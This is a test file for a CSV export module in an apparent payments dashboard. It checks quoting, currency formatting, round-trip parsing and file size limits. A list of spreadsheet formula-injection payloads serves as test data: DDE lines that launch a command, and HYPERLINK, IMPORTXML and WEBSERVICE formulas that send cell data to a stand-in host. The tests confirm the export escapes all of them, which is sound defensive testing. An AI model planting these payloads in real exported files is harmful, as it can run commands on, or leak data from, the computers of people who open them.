import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { paymentsCsv } from '../../shared/dashboard/report-csv.ts';
import { csvFile } from '../../shared/domain/reports/csv.ts';
import { sale } from '../documents/builders.ts';
import { testMerchant } from '../support/shop/api.ts';

process.env['MERCHANT'] = JSON.stringify(testMerchant);

const cellOf = (text: string): string =>
  csvFile(['a'], [[text]])
    .split('\r\n')
    .slice(1, -1)
    .join('\r\n');

/** What spreadsheets run, or have run, when a cell begins with it. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '\ufeff=1+1',
];

describe('a cell of a CSV file', () => {
  it.each(formulas)(
    'that begins like a formula gets an apostrophe, so that programs read it as text: %j',
    (formula) => {
      expect(cellOf(formula).replace(/^"/, '')).toMatch(/^'/);
    },
  );

  it.each(['Field Guide', '10 - 3', 'a=b', 'ada@example.com', '', 'Ünïcode', "'quoted'"])(
    'with ordinary text does not change: %j',
    (text) => {
      expect(cellOf(text)).toBe(text);
    },
  );

  it('with quotes, commas, semicolons or line breaks is quoted, and can be read back unchanged', () => {
    expect(cellOf('say "hi", then; go\r\non')).toBe('"say ""hi"", then; go\r\non"');
  });

  it('with money is a decimal number with the decimal places of its currency, also when negative', () => {
    const money = (amount: number, currency: string) => ({ amount, currency });
    const rows = [
      [
        money(123_456, 'EUR'),
        money(5, 'EUR'),
        money(-5, 'EUR'),
        money(-123_456, 'KWD'),
        money(1_999, 'JPY'),
        money(0, 'USD'),
      ],
    ];
    expect(csvFile([], rows)).toContain('1234.56,0.05,-0.05,-123.456,1999,0.00\r\n');
  });

  it('without a value is empty, and with a number has its digits', () => {
    expect(csvFile([], [[null, 7, 0.5]])).toContain(',7,0.5\r\n');
  });
});

it('a CSV file can be read back unchanged, except for added apostrophes', () => {
  const row = fc.tuple(fc.string(), fc.string());
  fc.assert(
    fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), (rows) => {
      const read = parse(csvFile(['a', 'b'], rows)).slice(1);
      expect(read).toHaveLength(rows.length);
      for (const [index, cells] of rows.entries())
        for (const [at, cell] of cells.entries()) expect([cell, `'${cell}`]).toContain(read[index]?.[at]);
    }),
  );
});

/** RFC 4180, written independently. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  const body = text.replace(/^\ufeff/, '');
  for (let at = 0; at < body.length; at += 1) {
    const letter = body[at] as string;
    if (isQuoted && letter === '"' && body[at + 1] === '"') [cell, at] = [`${cell}"`, at + 1];
    else if (letter === '"') isQuoted = !isQuoted;
    else if (!isQuoted && letter === ',') [cell] = ['', rows.at(-1)?.push(cell)];
    else if (!isQuoted && letter === '\r' && body[at + 1] === '\n') {
      rows.at(-1)?.push(cell);
      rows.push([]);
      [cell, at] = ['', at + 1];
    } else cell += letter;
  }
  return rows.slice(0, -1);
}

describe('a CSV file of 3,000 payments', () => {
  const fileOf = (name: string, lines: number) => {
    const sold = sale(Array.from({ length: lines }, () => ({ name, unitAmount: 100 })));
    return paymentsCsv(Array.from({ length: 3_000 }, () => sold));
  };
  const mostBytesOfAnAnswer = 6 * 1024 * 1024;

  it('with two products each fits into one Lambda response, as a JSON string and as base64', () => {
    const file = fileOf('A Complete Field Guide to Everything That Crawls, Flies or "Swims"', 2);
    expect(file.split('\r\n')).toHaveLength(3_000 + 2);
    for (const sent of [JSON.stringify(file), Buffer.from(file).toString('base64')])
      expect(Buffer.byteLength(sent)).toBeLessThan(mostBytesOfAnAnswer);
  });

  it.each(['a'.repeat(100), '説'.repeat(100), '"'.repeat(100)])(
    'that is too large is refused with a message: %s',
    (name) => {
      expect(() => fileOf(name, 20)).toThrow('choose a shorter period');
    },
  );
});
